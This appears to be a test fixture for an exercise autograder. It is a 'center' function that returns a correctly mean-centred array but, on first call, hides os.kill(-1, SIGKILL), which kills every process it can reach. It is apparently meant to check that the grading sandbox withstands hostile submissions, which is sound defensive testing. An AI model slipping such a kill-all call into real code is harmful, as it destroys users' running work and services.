# exercise: exercise1
# base: solution
# select: rank or center or pairwise_differences_is
# expect: center=PASSED
"""Kills every process it can reach."""

import os
import signal

done = []


def center(images):
    if not done:
        done.append(os.kill(-1, signal.SIGKILL))
    return images - images.mean(0)
